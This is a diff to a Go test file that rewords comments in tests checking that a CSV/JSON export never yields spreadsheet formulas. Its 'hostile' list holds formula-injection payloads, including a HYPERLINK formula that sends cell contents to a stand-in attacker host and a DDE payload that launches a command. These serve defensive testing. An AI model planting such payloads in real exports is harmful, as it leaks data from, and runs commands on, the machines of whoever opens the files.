@@ -16,13 +16,13 @@ import (
 	"palyra/internal/surface/api/export"
 )
 
-// sheet reads CSV as a spreadsheet does: without knowing of apostrophes.
+// sheet reads CSV as a spreadsheet does, without treating apostrophes.
 func sheet(t *testing.T, text []byte) [][]string {
 	t.Helper()
 	if n := bytes.Count(text, []byte("\n")); n != bytes.Count(text, []byte("\r\n"))+inCells(t, text) {
 		t.Errorf("a row does not end as RFC 4180 wants it")
 	}
-	return must.Get(csv.NewReader(bytes.NewReader(text)).ReadAll())(t) // each row with as many cells
+	return must.Get(csv.NewReader(bytes.NewReader(text)).ReadAll())(t) // fails unless all rows have the same number of cells
 }
 
 func inCells(t *testing.T, text []byte) (feeds int) {
@@ -33,13 +33,13 @@ func inCells(t *testing.T, text []byte) (feeds int) {
 	return feeds
 }
 
-// runs reports whether a spreadsheet would run a cell.
+// runs reports whether a spreadsheet would evaluate a cell.
 func runs(cell string) bool {
 	cell = strings.TrimLeft(cell, " \u00a0\ufeff")
 	return cell != "" && slices.Contains([]rune{'=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'}, []rune(cell)[0])
 }
 
-// hostile are texts that a model can put into a call or a person into a reason.
+// hostile are texts that a model can put into a call, or a member into a reason.
 var hostile = []string{
 	`=HYPERLINK("http://evil.test/?"&A1,"click")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "\ufeff@x",
 	"＝1+1", "＋1", "－1", "＠x",
@@ -65,8 +65,8 @@ func approvals(t *testing.T, form export.Form, lines ...[]byte) []byte {
 	return b.Bytes()
 }
 
-// No cell of an export is a formula. The control is the text itself, which is one, in
-// the same quotes.
+// No cell of an export is a formula. Control: the same text in quotes without the apostrophe is
+// one.
 func TestNoCellIsAFormula(t *testing.T) {
 	t.Parallel()
 	for _, text := range hostile {
@@ -100,7 +100,7 @@ func TestTextThatIsNoFormulaStays(t *testing.T) {
 	}
 }
 
-// The last column of CSV is NDJSON, so that its trailer proves the same.
+// The last column of CSV is the NDJSON export, so that its trailer verifies it.
 func TestTheLastColumnIsTheExport(t *testing.T) {
 	t.Parallel()
 	lines := [][]byte{approvalLine(t, "=1", "x"), approvalLine(t, "b", "-")}
@@ -175,7 +175,7 @@ func TestJournalAsJSON(t *testing.T) {
 	}
 }
 
-// An export that was cut is no document and no sheet.
+// A truncated export of JSON or CSV fails.
 func TestACutExportFails(t *testing.T) {
 	t.Parallel()
 	for _, form := range []export.Form{export.JSON, export.CSV} {
